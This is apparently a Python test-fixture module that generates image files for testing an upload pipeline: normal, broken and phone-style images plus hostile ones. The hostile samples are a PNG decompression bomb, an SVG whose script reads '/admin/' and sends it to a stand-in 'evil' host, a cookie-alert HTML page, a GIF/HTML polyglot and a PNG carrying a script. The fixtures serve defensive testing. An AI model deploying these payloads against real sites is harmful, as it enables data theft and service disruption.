"""Real image files made in the tests: phone photos, broken ones, hostile ones."""

import io
import struct
import zlib

from PIL import Image, PngImagePlugin

ORIENTATION = 0x0112
GPS_IFD = 0x8825


def jpeg(size=(800, 400), color="red", **save):
    image = Image.new("RGB", size, color)
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", **save)
    return buffer.getvalue()


def noisy_jpeg(size=(400, 300)):
    """A JPEG whose data is big enough that cutting it truncates real pixels."""
    image = Image.effect_noise(size, 64).convert("RGB")
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


def phone_jpeg():
    """800×400 landscape sensor data, red left half, blue right half, with
    EXIF Orientation=6 (display rotated 90° clockwise) and a GPS position."""
    image = Image.new("RGB", (800, 400), "blue")
    image.paste((255, 0, 0), (0, 0, 400, 400))
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[0x010F] = "PhoneMaker"  # Make
    gps = exif.get_ifd(GPS_IFD)
    gps.update(
        {
            1: "N",
            2: (43.0, 39.0, 2.5),  # Aktau
            3: "E",
            4: (51.0, 9.0, 31.0),
        }
    )
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, quality=90)
    return buffer.getvalue()


def png(size=(300, 200), mode="RGB", color="green"):
    image = Image.new(mode, size, color)
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def rgba_png():
    """Left half fully transparent, right half opaque blue."""
    image = Image.new("RGBA", (400, 200), (0, 0, 0, 0))
    image.paste((0, 0, 255, 255), (200, 0, 400, 200))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def cmyk_jpeg():
    """Pure magenta+yellow ink, i.e. red, as a print-shop CMYK JPEG."""
    image = Image.new("CMYK", (500, 300), (0, 255, 255, 0))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


def animated_gif():
    frames = [Image.new("RGB", (120, 80), color) for color in ("red", "lime", "blue")]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return buffer.getvalue()


def webp(size=(640, 480)):
    buffer = io.BytesIO()
    Image.new("RGB", size, "orange").save(buffer, "WEBP")
    return buffer.getvalue()


def _chunk(kind, data):
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width=100_000, height=100_000):
    """A tiny PNG whose header declares a huge picture (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    # One row of real data is enough to make it a "valid" PNG start.
    idat = zlib.compress(b"\x00" + b"\x00" * 3 * min(width, 1000))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('/admin/').then(r => r.text()).then(t => new Image().src='//evil/?'+t)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
"""

HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def gif_html_polyglot():
    """A valid GIF with an HTML page after its trailer: a browser sniffing or an
    attacker linking it as text/html would run the script."""
    buffer = io.BytesIO()
    Image.new("RGB", (60, 40), "red").save(buffer, "GIF")
    return buffer.getvalue() + b"<html><body><script>alert(1)</script></body></html>"


def png_with_script_text():
    """A PNG carrying a script in a text chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    buffer = io.BytesIO()
    Image.new("RGB", (50, 50), "red").save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def mpo():
    """A multi-picture JPEG, as some phones write (main picture + a preview)."""
    buffer = io.BytesIO()
    first = Image.new("RGB", (640, 480), "red")
    first.save(buffer, "MPO", save_all=True, append_images=[Image.new("RGB", (160, 120), "blue")])
    return buffer.getvalue()
